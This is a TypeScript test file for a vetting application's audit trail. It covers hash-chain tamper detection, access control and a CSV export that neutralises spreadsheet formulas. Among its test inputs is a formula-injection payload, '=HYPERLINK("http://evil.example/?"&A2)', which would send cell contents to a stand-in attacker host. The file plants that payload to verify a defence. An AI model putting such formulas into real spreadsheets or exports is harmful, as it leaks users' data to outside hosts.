import Papa from 'papaparse';
import { afterEach, describe, expect, it } from 'vitest';
import { eventHash, type VettingEvent } from '../../../../shared/model/vetting/events';
import { eligible, vettingWorld, type World } from './users.testing';

let world: World;
afterEach(() => world?.close());

function setUp() {
  world = vettingWorld();
  const curator = world.addUser('curator', { name: 'Carla' });
  const ana = world.addUser('reviewer', { name: 'Ana', country: 'PH', agency: 'CSC' });
  world.actAs(curator);
  const app = world.application();
  world.step(app, 'screened', eligible);
  world.step(app, 'assigned', { reviewerId: ana });
  world.step(app, 'note', { text: 'Called the recommender.' });
  return { curator, ana, app };
}

const eventOfType = (type: string) => world.db.prepare("SELECT id, data FROM records WHERE entity = 'vetting_event' AND json_extract(data, '$.type') = ?").get(type) as { id: string; data: string };

describe('the audit trail', () => {
  it('lists who did what when, in order, and verifies', async () => {
    const { app, curator } = setUp();
    const audit = (await world.call('vetting.audit', { id: app })).value;
    expect(audit.chain).toEqual({ ok: true, altered: [], missing: [] });
    expect(audit.entries.map((e: { type: string; byName: string; summary: string; valid: boolean }) => [e.type, e.byName, e.summary, e.valid])).toEqual([
      ['submitted', 'Carla', 'Application submitted', true],
      ['screened', 'Carla', 'Screened: eligible (1 of 1 criteria met)', true],
      ['assigned', 'Carla', 'Assigned to Ana', true],
      ['note', 'Carla', 'Note: Called the recommender.', true],
    ]);
    expect(audit.entries[0].by).toBe(curator);
  });

  it('flags an event altered in the database after the fact, re-hashed or not', async () => {
    const { app } = setUp();
    // Altered in place: the content no longer matches its hash.
    const note = eventOfType('note');
    world.db.prepare("UPDATE records SET data = json_set(data, '$.payload.text', 'Nothing to report.') WHERE entity = 'vetting_event' AND id = ?").run(note.id);
    let audit = (await world.call('vetting.audit', { id: app })).value;
    expect(audit.chain.ok).toBe(false);
    expect(audit.chain.altered).toEqual([{ eventId: note.id, signs: [{ code: 'CONTENT' }] }]);
    expect(audit.entries.find((e: { eventId: string }) => e.eventId === note.id)).toMatchObject({ valid: false, summary: 'Note: Nothing to report.' });

    // Altered and re-hashed: its follower's record of its hash gives it away.
    const screened = eventOfType('screened');
    const forged = { ...(JSON.parse(screened.data) as Omit<VettingEvent, 'id'>), id: screened.id } as VettingEvent;
    (forged.payload as { criteria: { note: string }[] }).criteria[0]!.note = '25 years';
    forged.hash = eventHash(forged);
    const { id: _id, ...fields } = forged;
    world.db.prepare("UPDATE records SET data = ? WHERE entity = 'vetting_event' AND id = ?").run(JSON.stringify(fields), screened.id);
    audit = (await world.call('vetting.audit', { id: app })).value;
    const signs = Object.fromEntries(audit.chain.altered.map((a: { eventId: string; signs: { code: string }[] }) => [a.eventId, a.signs.map((s) => s.code)]));
    expect(signs[screened.id]).toEqual(['FOLLOWER']);
    expect(audit.entries.filter((e: { valid: boolean }) => !e.valid)).toHaveLength(2);

    // A record that is no longer an event at all is reported too.
    world.db.prepare("UPDATE records SET data = json_set(data, '$.type', 'erased') WHERE entity = 'vetting_event' AND id = ?").run(note.id);
    audit = (await world.call('vetting.audit', { id: app })).value;
    expect(audit.chain.altered.map((a: { eventId: string }) => a.eventId)).toContain(note.id);
    expect(audit.entries).toHaveLength(3);
  });

  it('is the secretariat\'s', async () => {
    const { app, ana } = setUp();
    world.actAs(ana);
    expect((await world.call('vetting.audit', { id: app })).error).toMatchObject({ code: 'NOT_ALLOWED' });
    expect((await world.call('vetting.auditCsv', { id: app })).error).toMatchObject({ code: 'NOT_ALLOWED' });
    world.actAs(world.addUser('admin'));
    expect((await world.call('vetting.audit', { id: '01900000-0000-7000-8000-0000000000ff' })).error).toMatchObject({ code: 'NOT_FOUND' });
  });
});

describe('the audit trail as CSV', () => {
  it('is UTF-8 with a byte order mark, neutralises cells that would be formulas, and covers one application or all', async () => {
    const { app } = setUp();
    world.step(app, 'note', { text: '=HYPERLINK("http://evil.example/?"&A2)' });
    world.step(app, 'note', { text: '+1+1' });
    const other = world.application({ givenName: '@SUM(A1:A9)', familyName: 'Nguyễn' });
    world.step(other, 'note', { text: '-2+3' });
    world.actAs(world.addUser('curator', { name: '=Eq' }));
    const third = world.application({ givenName: '-Minus', familyName: '' });
    world.actAs(world.addUser('curator', { name: '+Plus' }));
    world.step(third, 'note', { text: 'ok' });

    const one = (await world.call('vetting.auditCsv', { id: app })).value;
    expect(one.mime).toMatch(/^text\/csv/);
    expect(one.fileName).toMatch(/^audit-.*\.csv$/);
    const text = Buffer.from(one.dataBase64, 'base64').toString('utf8');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const rows = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
    expect(rows[0]).toEqual(['Application', 'Applicant', 'Event', 'Type', 'When (UTC)', 'By (user id)', 'By', 'What', 'Hash', 'Verified']);
    expect(rows).toHaveLength(1 + 6);
    expect(rows.map((r) => r[7])).toContain('Note: =HYPERLINK("http://evil.example/?"&A2)'); // starts with "Note:", nothing to neutralise

    // In Indonesian: the column titles and what each step did; what people wrote stays as written.
    const inId = Buffer.from((await world.call('vetting.auditCsv', { id: app, lang: 'id' })).value.dataBase64, 'base64').toString('utf8');
    const idRows = Papa.parse<string[]>(inId.slice(1), { skipEmptyLines: true }).data;
    expect(idRows[0]).toEqual(['Lamaran', 'Pelamar', 'Peristiwa', 'Jenis', 'Waktu (UTC)', 'Oleh (id pengguna)', 'Oleh', 'Apa', 'Hash', 'Terverifikasi']);
    expect(idRows.map((r) => r[7])).toContain('Lamaran diajukan');
    expect(idRows.map((r) => r[7])).toContain('Catatan: =HYPERLINK("http://evil.example/?"&A2)');
    expect(idRows.slice(1).map((r) => r[9])).toEqual(rows.slice(1).map(() => 'ya'));

    const all = Buffer.from((await world.call('vetting.auditCsv', {})).value.dataBase64, 'base64').toString('utf8');
    const allRows = Papa.parse<string[]>(all.slice(1), { skipEmptyLines: true }).data;
    expect(allRows).toHaveLength(1 + 6 + 2 + 2);
    // Each cell that would start with = + - @ starts with a quote instead: shown as text, never evaluated.
    expect(new Set(allRows.slice(1).map((r) => r[1]))).toEqual(new Set(['Siti Rahma', "'@SUM(A1:A9) Nguyễn", "'-Minus"]));
    expect(new Set(allRows.slice(1).map((r) => r[6]))).toEqual(new Set(['Carla', "'=Eq", "'+Plus"]));
    for (const row of allRows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
  });
});
